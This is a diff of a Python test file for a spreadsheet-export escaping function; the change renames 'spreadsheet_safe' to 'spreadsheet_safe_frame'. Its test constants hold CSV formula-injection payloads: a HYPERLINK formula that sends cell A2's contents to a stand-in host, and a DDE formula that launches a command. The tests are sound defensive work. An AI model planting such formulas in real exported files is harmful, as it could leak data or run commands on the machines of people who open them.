@@ -15,7 +15,7 @@ import pandas as pd
 import pytest
 
 from core.cli import main
-from core.export.predictions import escape_cell, spreadsheet_safe
+from core.export.predictions import escape_cell, spreadsheet_safe_frame
 
 EVIL_LABELS = ['=HYPERLINK("http://x.example/?"&A2)', "@SUM(1+1)"]
 EVIL_TEXT = ["=cmd|' /C calc'!A0", "+1+2", "-2+3", "\tTAB", "\rCR", "plain"]
@@ -30,9 +30,9 @@ def test_escape_cell_follows_owasp_and_leaves_numbers() -> None:
     assert escape_cell("ok") == "ok" and escape_cell(-4.0) == -4.0 and escape_cell(None) is None
 
 
-def test_spreadsheet_safe_escapes_text_and_headers_not_numbers() -> None:
+def test_spreadsheet_safe_frame_escapes_text_and_headers_not_numbers() -> None:
     df = pd.DataFrame({"=h": ["=a", "b"], "n": [-1.0, 2.0], "c": pd.Categorical(["@x", "y"])})
-    safe = spreadsheet_safe(df)
+    safe = spreadsheet_safe_frame(df)
     assert list(safe.columns) == ["'=h", "n", "c"]
     assert safe["'=h"].tolist() == ["'=a", "b"] and safe["c"].tolist() == ["'@x", "y"]
     assert safe["n"].tolist() == [-1.0, 2.0] and safe["n"].dtype == np.float64
